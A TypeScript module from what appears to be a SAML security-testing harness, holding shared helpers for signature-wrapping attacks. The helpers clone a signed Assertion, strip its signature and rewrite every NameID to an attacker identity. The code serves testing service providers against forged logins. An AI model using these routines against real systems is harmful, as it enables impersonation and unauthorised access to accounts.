/*
 * The pieces every assertion-smuggling attack shares (Somorovsky et al., "On Breaking SAML: Be Whoever You Want
 * to Be", USENIX Security 2012): find the genuine Assertion the IdP signed, and make an "evil" unsigned copy of
 * it that names the attacker's chosen identity. Where the copy goes is each attack's own file.
 */
import { idpError } from '../errors.ts';
import { NS } from '../namespaces.ts';
import { descendants, firstChild, newId } from '../xml.ts';

/** Who an attack tries to sign in as when the caller names nobody. */
export const DEFAULT_ATTACKER_NAME_ID = 'attacker@evil.example';

/** Replaces the text of every NameID under `root` with the attacker's chosen identity. */
export function makeEvil(root: Element, attackerNameId: string): void {
  for (const nameId of descendants(root, NS.assertion, 'NameID')) {
    while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
    nameId.appendChild(nameId.ownerDocument!.createTextNode(attackerNameId));
  }
}

export function removeSignature(el: Element): void {
  const sig = firstChild(el, NS.ds, 'Signature');
  if (sig) el.removeChild(sig);
}

/** The Response's one plain Assertion child; `attack` names the deviation in the builder error. */
export function genuineAssertion(response: Element, attack: string, options: { signed?: boolean } = {}): Element {
  const assertion = firstChild(response, NS.assertion, 'Assertion');
  if (!assertion) throw idpError('builder/invalid', `${attack} needs an unencrypted Assertion`);
  if (options.signed && !firstChild(assertion, NS.ds, 'Signature')) throw idpError('builder/invalid', `${attack} needs a signed Assertion (signAssertionOnly/signBoth)`);
  return assertion;
}

/** An unsigned copy of `assertion` for the attacker's identity, with a fresh ID unless `sameId`. */
export function evilCopy(assertion: Element, attackerNameId: string, options: { sameId?: boolean } = {}): Element {
  const evil = assertion.cloneNode(true) as Element;
  removeSignature(evil);
  makeEvil(evil, attackerNameId);
  if (!options.sameId) evil.setAttribute('ID', newId());
  return evil;
}

/** The ds:Signature child of `el`, if any. */
export function signatureOf(el: Element): Element | undefined {
  return firstChild(el, NS.ds, 'Signature');
}
